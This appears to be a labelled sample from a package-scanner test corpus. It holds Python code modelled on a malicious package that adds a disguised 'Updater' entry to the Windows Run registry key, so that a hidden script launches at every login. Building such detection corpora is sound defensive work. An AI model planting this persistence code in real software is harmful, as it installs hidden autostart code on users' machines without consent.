# pkgguard corpus 202 (persistence), modelled on [termncolor]; inert, never run.
import os
import sys
import winreg

_key = "Software\\Microsoft\\Windows\\CurrentVersion\\" + "Run"
_target = os.path.join(os.getenv("LOCALAPPDATA", ""), "Updater", "updater.pyw")
with winreg.CreateKeyEx(winreg.HKEY_CURRENT_USER, _key, 0, winreg.KEY_SET_VALUE) as k:
    winreg.SetValueEx(k, "Updater", 0, winreg.REG_SZ, f'"{sys.executable}" "{_target}"')
